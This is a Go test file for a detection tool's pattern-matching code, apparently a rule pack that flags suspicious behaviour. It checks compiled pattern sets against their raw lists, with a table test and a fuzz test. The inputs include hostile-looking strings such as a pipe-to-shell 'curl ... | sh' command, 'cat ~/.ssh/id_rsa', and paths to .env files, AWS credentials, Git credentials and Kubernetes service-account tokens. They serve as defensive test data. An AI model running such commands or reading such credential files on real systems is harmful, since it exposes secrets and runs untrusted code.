package ttp

import (
	"bytes"
	"strings"
	"testing"
)

// packPatternSets compiles every "patterns" list of the embedded pack as a
// patternSet, with the list it must agree with.
func packPatternSets(t testing.TB) (sets []*patternSet, lists [][]string) {
	t.Helper()
	var buf bytes.Buffer
	l := NewBehavioralLifter(ltOpts(&buf))
	for _, r := range loadPack(t) {
		if len(paramStrings(r, "patterns")) == 0 {
			continue
		}
		ps, err := l.patternSetFor(r, "patterns")
		if err != nil {
			t.Fatalf("%s: %v", r.ID, err)
		}
		sets = append(sets, ps)
		lists = append(lists, paramStrings(r, "patterns"))
	}
	if len(sets) == 0 {
		t.Fatal("no pattern lists in the pack")
	}
	return sets, lists
}

// listMatches is the reference: any pattern of the list matches s.
func listMatches(t testing.TB, l *Lifter, pats []string, s string) bool {
	for _, p := range pats {
		re, err := l.regexp(p)
		if err != nil {
			t.Fatal(err)
		}
		if re.MatchString(s) {
			return true
		}
	}
	return false
}

func TestPatternSetsAgreeWithTheirPatternLists(t *testing.T) {
	sets, lists := packPatternSets(t)
	var buf bytes.Buffer
	l := NewBehavioralLifter(ltOpts(&buf))
	inputs := []string{
		"/index.php?id=1", "/.env", "/app/.env.production", "/.git/config", "/.GIT/CONFIG",
		"/home/u/.aws/credentials", "cat ~/.ssh/id_rsa", "/.ssh/id_rsa.pub", "/wp-config.php.bak",
		"/var/run/secrets/kubernetes.io/serviceaccount/token", "curl http://x/a.sh | sh", "",
		"/ENV", "=.env;", "/%2e%2e/.git-credentials", strings.Repeat("a", 3000) + "/.env",
	}
	prefiltered := 0
	for i, ps := range sets {
		if ps.ac != nil {
			prefiltered++
		}
		for _, s := range inputs {
			if got, want := ps.MatchString(s), listMatches(t, l, lists[i], s); got != want {
				t.Errorf("set %d on %q: %v, list says %v", i, s, got, want)
			}
		}
	}
	if prefiltered == 0 {
		t.Error("no pattern list got a literal prefilter")
	}
}

func FuzzPatternSetAgreesWithItsList(f *testing.F) {
	for _, s := range []string{"/.env", "/x/.git/config", "~/.ssh/id_ed25519", "/a"} {
		f.Add(s)
	}
	sets, lists := packPatternSets(f)
	var buf bytes.Buffer
	l := NewBehavioralLifter(ltOpts(&buf))
	f.Fuzz(func(t *testing.T, s string) {
		for i, ps := range sets {
			if got, want := ps.MatchString(s), listMatches(t, l, lists[i], s); got != want {
				t.Fatalf("set %d on %q: %v, list says %v", i, s, got, want)
			}
		}
	})
}
